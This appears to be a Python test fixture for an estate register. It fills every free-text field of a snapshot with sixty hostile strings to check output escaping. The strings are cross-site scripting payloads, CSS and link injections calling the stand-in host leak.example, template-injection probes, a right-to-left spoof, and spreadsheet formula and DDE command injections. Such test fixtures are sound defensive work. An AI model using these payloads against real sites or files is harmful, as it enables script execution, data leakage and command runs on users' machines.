"""Sixty texts that would do something where text is taken for code, and a place whose texts are these."""

from dataclasses import replace
from typing import Any

import pandas as pd

from estate.dictionary import columns
from estate.snapshot import Snapshot
from tests.support import planned_place

# A page that runs one of these sets window.__pwned; a spreadsheet that runs one calls something.
TEXTS = (
    "<img src=x onerror=\"window.__pwned='img'\">",
    "<img/src/onerror=window.__pwned='slashes'>",
    "<IMG SRC=x OnErRoR=window.__pwned='case'>",
    "<svg onload=window.__pwned='svg'>",
    "'\"><svg/onload=window.__pwned='quotes'>",
    "<svg><script>window.__pwned='svgscript'</script></svg>",
    "<svg><animate onbegin=window.__pwned='animate' attributeName=x dur=1s>",
    "<script>window.__pwned='script'</script>",
    "</script><script>window.__pwned='close'</script>",
    "</ScRiPt ><script>window.__pwned='closecase'</script>",
    "<!--<script>",
    "--><script>window.__pwned='comment'</script>",
    "]]><script>window.__pwned='cdata'</script>",
    "</title><script>window.__pwned='title'</script>",
    "</textarea><script>window.__pwned='textarea'</script>",
    "</style><script>window.__pwned='style'</script>",
    "</option></select><img src=x onerror=window.__pwned='option'>",
    "<iframe srcdoc=\"<script>parent.__pwned='frame'</script>\">",
    "<iframe src=javascript:parent.__pwned='framesrc'>",
    "<a href=javascript:window.__pwned='href'>x</a>",
    "<a href=\"java&#x09;script:window.__pwned='tab'\">x</a>",
    "<body onload=window.__pwned='body'>",
    "<input autofocus onfocus=window.__pwned='focus'>",
    "<details open ontoggle=window.__pwned='toggle'>",
    "<video><source onerror=window.__pwned='video'></video>",
    "<object data=javascript:window.__pwned='object'>",
    "<embed src=javascript:window.__pwned='embed'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned='mxss'>",
    "<link rel=stylesheet href=https://leak.example/a.css>",
    "<base href=https://leak.example/>",
    "<meta http-equiv=refresh content=0;url=https://leak.example/>",
    "<style>@import 'https://leak.example/b.css'</style>",
    "<form action=https://leak.example><button>x",
    "\"onmouseover=\"window.__pwned='attribute'",
    "' onmouseover='window.__pwned=`single`",
    "${window.__pwned='template'}",
    "`+(window.__pwned='backtick')+`",
    "'+(window.__pwned='plus')+'",
    '"};window.__pwned="json";//',
    "\\\"};window.__pwned='escape';//",
    "\\u003cscript\\u003ewindow.__pwned='unicode'\\u003c/script\\u003e",
    "a\nb\u2028c\u2029d\r\n\\'-(window.__pwned='line')-'",
    "{{7*7}}{%x%}{#y#}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "{% raw %}{{ 1 }}{% endraw %}",
    "{z}/{x}/{y}",
    "{0.__class__} %s %(name)s",
    "&lt;img src=x onerror=window.__pwned='entity'&gt;",
    "&#60;script&#62;window.__pwned='number'&#60;/script&#62;",
    "\u202egnp.exe\u202c right to left",
    "\uff1cscript\uff1ewindow.__pwned='fullwidth'",
    "url(javascript:window.__pwned='css')",
    "red;background:url(https://leak.example/c)",
    "=HYPERLINK(\"https://leak.example\",\"x\")",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
)  # fmt: skip
_TABLES = ("organisation", "site", "property", "service", "team", "zone", "lease", "valuation")


def spoilt(snapshot: Snapshot) -> Snapshot:
    """The place with a hostile text in every text field of the register; ids and choices stay."""
    frames: dict[str, Any] = {}
    for table in _TABLES:
        frame: pd.DataFrame = getattr(snapshot, planned_place.FIELDS[table])
        free = [c.name for c in columns(table) if c.type == "text" and c.name != "id" and not c.references]
        free += ["use"] if table == "property" else []  # a choice, yet shown
        texts = [TEXTS[number % len(TEXTS)] for number in range(len(frame))]
        frames[planned_place.FIELDS[table]] = frame.assign(
            **{name: pd.Series(texts, index=frame.index, dtype=object) for name in free if name in frame}
        )
    return replace(snapshot, **frames)
